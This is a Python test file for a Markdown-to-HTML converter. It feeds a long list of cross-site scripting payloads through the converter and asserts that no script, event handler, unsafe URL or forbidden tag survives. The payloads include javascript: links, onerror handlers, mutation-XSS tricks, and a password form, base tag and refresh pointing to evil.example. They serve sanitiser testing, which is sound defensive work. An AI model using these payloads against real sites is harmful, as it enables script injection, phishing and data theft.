"""Script in Markdown never reaches a page, whichever way it is written."""

from html.parser import HTMLParser

import pytest

from kb.markup.links import LinkTargets, Resolver
from kb.markup.markdown import Converter
from kb.markup.page import read_page
from kb.models import ArticleRef

_NEVER = {"script", "style", "object", "embed", "svg", "math", "form", "button", "textarea", "select", "base", "meta",
          "link", "template", "frame", "frameset", "applet", "marquee", "input", "noscript"}  # fmt: skip
_ADDRESSES = {"href", "src", "poster", "action", "formaction", "data", "xlink:href", "srcset", "background", "cite"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\"alert(1)\">",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe src='https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='x' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](x.png){ onerror=alert(1) }",
    "![x](\"onerror=\"alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "[x](y){ onclick=alert(1) style='color:red' href='javascript:alert(1)' }",
    "## Heading {onmouseover=alert(1)}",
    "Paragraph\n{: onclick=\"alert(1)\" style=\"x\" }",
    "## Heading {#\"><script>alert(1)</script>}",
    "```{.python onload=alert(1)}\nprint()\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    Text",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<form action='https://evil.example'><input name=password><button>Send</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='javascript:alert(1)'>",
    "<video><source onerror='alert(1)' src=x></video>",
    "<video poster='javascript:alert(1)' src='javascript:alert(1)' autoplay onplay=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<p id='x' name='y' class='button button--primary' accesskey='a' contenteditable>x</p>",
    "<template><script>alert(1)</script></template>",
    "<img src=//evil.example/track.png>",
    "\u2028<script>alert(1)</script>",
    "<a href=\"https://ok.example\" target=\"_blank\" ping=\"https://evil.example\">x</a>",
]  # fmt: skip


class _Auditor(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "srcset", "name", "target", "ping", "formaction"}:
                self.wrong.append(f"{tag} {name}={value}")
            if name in _ADDRESSES and value and ":" in value and not value.startswith("#"):
                scheme = "".join(value.split()).partition(":")[0].lower()
                if scheme not in {"http", "https", "mailto", "tel", "sms"}:
                    self.wrong.append(f"{tag} {name}={value}")
            if (
                tag == "iframe"
                and name == "src"
                and not (value or "").startswith(
                    ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")
                )
            ):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "class" and "button" in (value or ""):
                self.wrong.append(f"{tag} {name}={value}")


def published(markdown: str) -> str:
    places = LinkTargets({"en/a/b.md": ArticleRef("en", "b")}, frozenset({"en/a/x.png"}), lambda path: None)
    html = Converter().html(markdown)
    return read_page(html, "Title", Resolver("en/a/b.md", places)).html


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "Before {} after", "- item\n\n    {}", "> {}"])
def test_nothing_script_like_survives(payload: str, frame: str) -> None:
    html = published(frame.format(payload))
    auditor = _Auditor()
    auditor.feed(html)
    auditor.close()
    assert auditor.wrong == [], html


def test_the_words_around_an_attack_are_kept() -> None:
    html = published("Before <script>alert(1)</script> after <b onclick=x>bold</b>.")
    assert "Before" in html and "after <b>bold</b>." in html
    assert "alert" not in html


def test_a_heading_keeps_its_own_anchor_and_loses_an_unsafe_one() -> None:
    assert '<h2 id="pay-now">' in published("## Pay {#pay-now}")
    assert "<script" not in published('## Pay {#a"><script>}')


def test_a_remote_frame_of_an_allowed_host_is_rebuilt_from_its_number_alone() -> None:
    html = published('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1" allow="camera"></iframe>')
    assert 'src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"' in html
    assert "autoplay" not in html and "camera" not in html
